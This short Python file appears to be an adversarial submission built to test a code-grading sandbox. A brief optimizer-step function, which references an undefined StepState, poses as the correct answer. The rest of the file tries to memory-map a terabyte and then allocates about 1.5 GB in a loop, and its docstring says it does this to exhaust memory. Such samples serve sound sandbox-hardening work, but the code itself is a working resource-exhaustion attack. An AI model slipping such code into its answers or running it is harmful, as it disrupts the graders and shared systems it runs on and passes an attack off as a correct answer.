"""Takes memory without end in the cell, behind a right answer, and maps a terabyte.

attacks: 19
earns: first=full rest=full
"""

import mmap


def halving_step(params, grads, state, *, lr=0.1):
    v = state.v / 2 + grads
    return params - lr * v, StepState(state.t + 1, v)


try:
    mmap.mmap(-1, 1 << 40)
except (OSError, ValueError, MemoryError) as error:
    print(type(error))
held = []
for _ in range(1500):
    held.append(bytearray(b"x") * (1 << 20))
